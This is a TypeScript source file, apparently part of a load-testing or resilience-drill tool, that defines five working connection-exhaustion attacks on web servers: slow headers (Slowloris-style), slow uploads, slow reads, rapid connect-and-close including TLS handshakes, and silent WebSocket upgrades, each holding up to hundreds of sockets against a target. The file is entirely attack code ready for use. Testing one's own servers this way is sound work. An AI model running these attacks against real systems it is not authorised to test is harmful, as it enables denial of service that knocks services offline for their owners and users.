import type { Attack } from "#drill/attack/attack.ts";
import { hold } from "#drill/attack/hold.ts";

/** Connections that one attack holds or opens in a second. */
const CONNECTIONS = 400;

const nothing = (): void => {};

/** Attacks on connections: none of them is a whole request. */
export const CONNECTION_ATTACKS: readonly Attack[] = [
  {
    name: "slow-headers",
    about: "requests whose head never ends, a byte now and then",
    start: (field) =>
      hold(
        field,
        CONNECTIONS,
        (socket) => socket.write(`GET / HTTP/1.1\r\nHost: ${field.target.name}\r\nX-A: `),
        (socket) => {
          if (field.random() < 0.02) socket.write("b");
        },
      ),
  },
  {
    name: "slow-body",
    about: "uploads of a megabyte, a byte now and then",
    start: (field) =>
      hold(
        field,
        CONNECTIONS / 2,
        (socket) =>
          socket.write(
            `POST / HTTP/1.1\r\nHost: ${field.target.name}\r\nContent-Length: 1000000\r\n\r\n`,
          ),
        (socket) => {
          if (field.random() < 0.02) socket.write("b");
        },
      ),
  },
  {
    name: "slow-read",
    about: "downloads whose readers stop reading",
    start: (field) =>
      hold(
        field,
        CONNECTIONS / 2,
        (socket) => {
          const path = field.site.assets[0] ?? "/";
          const request = `GET ${path} HTTP/1.1\r\nHost: ${field.target.name}\r\n\r\n`;
          socket.pause();
          socket.write(request.repeat(20));
        },
        nothing,
      ),
  },
  {
    name: "connections",
    about: "connections (with TLS: whole handshakes) that are closed as soon as they stand",
    start: (field) => hold(field, 40, (socket) => socket.destroy(), nothing),
  },
  {
    name: "websockets",
    about: "connections that ask for a WebSocket and say nothing",
    start: (field) =>
      hold(
        field,
        CONNECTIONS / 2,
        (socket) =>
          socket.write(
            `GET / HTTP/1.1\r\nHost: ${field.target.name}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n`,
          ),
        nothing,
      ),
  },
];
